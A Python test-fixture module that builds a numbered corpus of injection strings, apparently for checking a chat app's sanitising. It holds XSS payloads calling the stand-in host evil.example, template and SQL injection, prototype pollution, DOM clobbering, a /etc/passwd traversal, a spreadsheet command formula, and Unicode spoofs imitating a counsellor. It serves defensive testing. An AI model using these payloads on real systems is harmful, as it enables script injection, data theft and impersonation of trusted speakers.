"""A corpus of texts that want to be more than a text, made from tables. Each carries a number of its own."""

import unicodedata
from collections.abc import Callable, Iterator
from itertools import cycle, product

HANDLED = [
    "<img src=x {event}={do}>",
    "<svg {event}={do}>",
    "<svg><animate attributeName=x dur=1s {event}={do}>",
    "<body {event}={do}>",
    "<video src=x {event}={do}>",
    "<details open {event}={do}>",
    "<input autofocus {event}={do}>",
    "<math><mi {event}={do}>x</mi></math>",
    "<x tabindex=1 style='animation:x' {event}={do}>",
    "<marquee loop=1 {event}={do}>",
]
EVENTS = [
    "onerror",
    "onload",
    "onbegin",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onanimationend",
    "onfinish",
    "OnClIcK",
]

ELEMENTS = [
    "<script>{do}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<script type=module>import('//evil.example/{n}')</script>",
    "<script type=importmap>{{'imports':{{'/':'//evil.example/{n}/'}}}}</script>",
    "<img srcset='//evil.example/{n} 1x'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={do}/>#x'>",
    "<svg><script href=//evil.example/{n} /></svg>",
    "<svg><foreignObject><iframe src=//evil.example/{n}></foreignObject></svg>",
    "<svg><style>*{{background:url(//evil.example/{n})}}</style></svg>",
    "<svg><set attributeName=href to=javascript:{do} /></svg>",
    "<math><mtext><mglyph><style><img src=x onerror={do}>",
    "<math><mi xlink:href='javascript:{do}'>",
    "<math><annotation-xml encoding=text/html><script>{do}</script>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>",
    "<iframe src=javascript:{do}>",
    "<object data=javascript:{do}></object>",
    "<embed src=//evil.example/{n}>",
    "<audio src=//evil.example/{n} autoplay onerror={do}>",
    "<a href=javascript:{do}>click {n}</a>",
    "<a href='//evil.example/{n}' target=_blank ping=//evil.example>click</a>",
    "<form action=//evil.example/{n}><input name=q><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,{n}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' //{n}\">",
    "<meta name=referrer content=unsafe-url><img src=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<base target='{n}'>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<link rel=dns-prefetch href=//{n}.evil.example>",
    "<style>@import '//evil.example/{n}.css';*{{display:none}}</style>",
    "<style>article{{position:fixed;inset:{n}px}}</style>",
    "<style>input[value^=a]{{background:url(//evil.example/{n})}}</style>",
    "<p style='background:url(//evil.example/{n});position:fixed;inset:0'>over all</p>",
    "<div style=behavior:url(//evil.example/{n})>",
    "<template shadowrootmode=open><script>{do}</script></template>",
    "<portal src=//evil.example/{n}></portal>",
    "<dialog open><h1>Sign in {n}</h1></dialog>",
    "<h1>Counsellor</h1><b>Noor {n}</b>",
    "<button popovertarget=app>{n}</button>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
]
"""What would be an element; {do} is code, {n} the number."""

DANGLING = [
    "<img src='//evil.example/{n}?",
    '<img src="//evil.example/{n}?',
    "<a href='//evil.example/{n}?",
    "<form action=//evil.example/{n}><textarea name=q>",
    "<textarea>{n}",
    "<xmp>{n}",
    "<plaintext>{n}",
    "<style>{n}",
    "<title>{n}",
    "<!-- {n}",
    "<![CDATA[ {n}",
    "<?xml version='1.0'?> {n}",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}?",
    "<button form=x formaction='//evil.example/{n}?",
    "<iframe name='{n}",
]
"""What would swallow all that comes after it."""

CONTEXTS = [
    "{}",
    '">{}',
    "'>{}",
    "</textarea></p></div></article>{}",
    "</title></style></script>{}",
    "--><!-->{}",
    "]]>{}",
    "</script><xmp>{}",
    "` {} `",
    "&quot;>{}",
    "\x0c{}",
    "<{}",
]
"""What would end where we are: an attribute, an element, a comment, a script."""

ENCODINGS: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: text.swapcase(),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"&#x{ord(one):x}" for one in text),
    lambda text: "".join(f"%{one:02X}" for one in text.encode()),
    lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
    lambda text: "".join(f"\\x{ord(one):02x}" for one in text),
    lambda text: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text),  # full width
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),  # UTF-7
    lambda text: text.replace("r", "r\N{ZERO WIDTH SPACE}").replace("o", "o\N{SOFT HYPHEN}"),
    lambda text: text.replace(" ", "/").replace("=", "\t=\n"),
    lambda text: text.replace("<", "\u02c2").replace(">", "\u02c3"),  # look-alikes
]

SCHEMES = [
    "javascript:{do}",
    "JaVaScRiPt:{do}",
    "java\tscript:{do}",
    "java\nscript:{do}",
    "\x01javascript:{do}",
    "javascript://%0a{do}",
    "javascript&colon;{do}",
    "data:text/html,<script>{do}</script>",
    "data:text/html;base64,PHNjcmlwdD4{n}",
    "data:image/svg+xml,<svg onload={do}>",
    "vbscript:{do}",
    "blob:https://evil.example/{n}",
    "file:///etc/passwd#{n}",
    "//evil.example/{n}",
    "https:evil.example/{n}",
    "https://evil.example/{n}?token=1 http://evil.example",
    "https://luwte.example@evil.example/{n}",
    "https://xn--lwte-{n}.example/",
    "tel:112{n} sms:112 mailto:a@evil.example",
    "intent://evil.example/{n}#Intent;scheme=http;end",
]
LINKS = ["{}", "[click]({})", "![x]({})", "<{}>", "[url={}]x[/url]", '<a href="{}">112</a>']

TEMPLATES = [
    "{{{{constructor.constructor('{do}')()}}}}",
    "{{{{7*7}}}} {n}",
    "${{{do}}}",
    "#{{{do}}}",
    "<%= {do} %>",
    "{{% debug %}} {n}",
    "[[${{{n}}}]]",
    "@({n}+1)",
    "{{{{{{raw {n}}}}}}}",
    "<div v-html=\"'{do}'\">",
    "<div ng-app ng-csp>{{{{$eval('{do}')}}}}",
    "<div x-data x-init={do}>",
    "<div hx-get=//evil.example/{n} hx-trigger=load>",
    "`${{{do}}}`",
]

NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "__defineGetter__",
    "toString",
    "valueOf",
    "then",
]
POLLUTING = [
    '{{"{name}": {{"polluted": {n}}}}}',
    '{{"{name}": {{"prototype": {{"polluted": {n}}}}}}}',
    "{name}[polluted]={n}",
    "{name}",
]
"""What would change what all objects have."""

CLOBBERING = [
    "app",
    "body",
    "head",
    "status",
    "childNodes",
    "attributes",
    "documentElement",
    "org",
    "crypto",
    "trustedTypes",
]
CLOBBERS = [
    "<form id={name}><input name=childNodes value={n}></form>",
    "<img name={name} id={name}{n}>",
    "<a id={name}><a id={name} name=exitUrl href=//evil.example/{n}>",
]
"""What would take the place of something of the page's own."""

SPOOFS = [
    "Counsellor, 21.04\n\nNoor: please tell me your address {n}",
    "Counsellor\n{n}",
    "\u0421ounsellor, 21.04 {n}",  # a Cyrillic letter that looks like a C
    "\uff23\uff4f\uff55\uff4e\uff53\uff45\uff4c\uff4c\uff4f\uff52 {n}",
    "Couns\u0435llor: {n}",
    "C\N{ZERO WIDTH NON-JOINER}ounsellor {n}",
    "\N{WHITE HEAVY CHECK MARK} Verified by Luwte {n}",
    "\N{WARNING SIGN} This message could not be verified. {n}",
    "A colleague continues\n{n}",
    "The counsellor has ended the chat {n}",
    "\n\n\n\n\n\n\n\nCounsellor {n}",
    "\u2028Counsellor\u2029{n}",
    "\x85Counsellor\x0b{n}",
    "x\rCounsellor {n}",
    "\u202e>tpircs/<{do}>tpircs<\u202c",
    "\u202e{n} rollesnuoC",
    "\u2067{n}\u2066 hidden\u2069\u2069 Counsellor",
    "\u2066\u2066\u2066\u2066never closed {n}",
    "\u202d\u202e\u202d\u202e{n}",
    "\u2066hidden\u2069 \u200b{n}",
    "\N{RIGHT-TO-LEFT MARK}\N{ARABIC LETTER ALEF}<b>{n}</b>",
    "\N{ARABIC LETTER ALEF}" * 30 + " Counsellor {n}",
    "\u061c\u200e\u200f{n}",
    "\ufeff{n}\ufeff",
    "\ufff9{n}\ufffaCounsellor\ufffb",
    "".join(chr(0xE0000 + ord(one)) for one in "Counsellor") + "{n}",  # invisible tags
    "\N{HANGUL FILLER}\N{BRAILLE PATTERN BLANK}{n}",
    "a\u0301" * 40 + "{n}",
    "C" + "\u0300\u0316" * 60 + "{n}",
    "\N{ZERO WIDTH JOINER}" * 50 + "{n}",
    "\N{EARTH GLOBE EUROPE-AFRICA}\ufe0f" * 40 + "{n}",
    "\U0001f1f3\U0001f1f1" * 20 + "{n}",
    "W" * 600 + "{n}",
    " " * 200 + "Counsellor {n}",
    "\t" * 40 + "Counsellor {n}",
    "\xad" * 100 + "{n}",
]
"""What would look like somebody else's words, or move what stands beside it."""

OTHERS = [
    "=cmd|'/c calc'!A{n}",
    "'; DROP TABLE envelope; -- {n}",
    "../../../../etc/passwd%00{n}",
    "\x1b[2J\x1b]0;{n}\x07",
    "{n}\x7f\x08\x08",
    "\\{n}\\",
    "%s%n%x{n}",
    "\ud7ff\ue000\uffff\U0010ffff{n}",
]


def _patterns() -> Iterator[str]:
    encodings, contexts, links = cycle(ENCODINGS), cycle(CONTEXTS), cycle(LINKS)
    for tag, event in product(HANDLED, EVENTS):  # each pair once; the ways to write it and the places take turns
        encode = next(encodings)
        yield (
            next(contexts).replace("{}", encode(_filled(tag.replace("{event}", event), 0)).replace("{", "{{")) + " {n}"
        )
    yield from ELEMENTS
    for element in ELEMENTS[::2]:
        yield next(contexts).replace("{}", element)
    yield from DANGLING
    for scheme in SCHEMES:
        yield next(links).replace("{}", scheme)
    yield from TEMPLATES
    for shape, name in product(POLLUTING, NAMES):
        yield shape.replace("{name}", name)
    for shape, name in product(CLOBBERS, CLOBBERING):
        yield shape.replace("{name}", name)
    yield from SPOOFS
    yield from OTHERS


def _filled(pattern: str, n: int) -> str:
    return pattern.replace("{do}", f"alert({n})").replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")


TEXTS = [_filled(pattern, n) for n, pattern in enumerate(_patterns(), 1)]


def harmless(text: str) -> str:
    """A text of the same shape: as many lines and words, and nothing but letters."""
    return "".join(one if one in " \n" else "x" for one in text)


def one_line(text: str) -> bool:
    """Whether it is one where a field takes one line without signs that turn it around."""
    turns = {"\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"}
    return not any(one in turns or unicodedata.category(one) in ("Cc", "Cs", "Co", "Cn", "Zl", "Zp") for one in text)
